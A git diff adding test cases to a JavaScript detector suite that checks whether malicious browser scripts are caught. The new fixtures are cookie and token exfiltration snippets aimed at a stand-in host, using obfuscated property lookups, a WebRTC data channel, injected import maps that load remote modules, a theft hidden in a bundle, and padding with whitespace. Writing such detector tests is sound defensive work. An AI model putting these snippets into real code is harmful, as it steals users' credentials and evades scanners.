@@ -117,7 +117,34 @@ describe('the checks hold a script', () => {
       'uses `this` as the global object',
       `(function () { const w = this; w.fetch("https://e.example/?" + w.document.cookie); })();`,
     ],
+    [
+      'takes a name from a function',
+      `const o = { cookie() {} }; fetch("https://e.example/?" + document[o.cookie.name]);`,
+    ],
+    [
+      'takes a name from a symbol',
+      `fetch("https://e.example/", { method: "POST", body: document[Symbol("cookie").description] });`,
+    ],
+    [
+      'sends a secret by a channel to another browser',
+      `const c = new RTCPeerConnection({}).createDataChannel("a"); c.onopen = () => c.send(document.cookie);`,
+    ],
+    [
+      'adds a map of the addresses of modules',
+      `const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { core: "https://e.example/core.js" } }); document.head.append(m); await import("core");`,
+    ],
+    [
+      'writes a map of the addresses of modules into the page',
+      `document.head.insertAdjacentHTML("beforeend", \`<script type="importmap">\${JSON.stringify({ imports: { a: "https://e.example/" + "a.js" } })}</script>\`);`,
+    ],
   ])('that %s', (_what, source) => expect(isHeld(source)).toBe(true));
+
+  it('that is a bundle, and sends an item of the host by several functions', () => {
+    const library = Array.from({ length: 80 }, (_, index) => `function f${index}(a,b){return a+b*${index}}`).join('');
+    const theft =
+      'function g(e){return localStorage.getItem(e)}function h(e,t){return fetch(e,{method:"POST",body:t})}function j(){var e=g("Comfy.token");return{t:e}}h("https://e.example/q",JSON.stringify(j()));';
+    expect(isHeld(library + library + theft)).toBe(true);
+  });
 
   it('that is large because of spaces', () =>
     expect(isHeld(`${' '.repeat(1_100_000)}const c = document.cookie; fetch("https://e.example/?" + c);`)).toBe(true));
